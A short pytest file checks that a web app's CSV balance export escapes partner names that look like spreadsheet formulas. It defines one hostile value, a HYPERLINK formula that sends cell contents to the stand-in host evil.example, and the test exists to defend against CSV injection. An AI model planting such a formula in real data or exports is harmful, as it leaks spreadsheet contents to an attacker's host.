"""The pages' CSV download is written like the API's: what partners typed stays text."""

import csv
import io
from datetime import timedelta

from partnerhub.core.db import utcnow

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def test_a_manager_downloads_the_balance_with_a_partner_named_like_a_formula_as_text(build, client, sign_in):
    hostile, acme = build.partner(FORMULA_NAME), build.partner("Acme")
    partnership = build.partnership(hostile, acme)
    sent_at = utcnow() - timedelta(days=2)
    build.handoff_through(partnership, hostile, [("sent", sent_at)])
    sign_in(build.user(acme, "manager"))

    download = client.get("/balance.csv")

    assert download.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(download.get_data(as_text=True))))
    assert [row["partner"] for row in rows] == ["'" + FORMULA_NAME] * 2
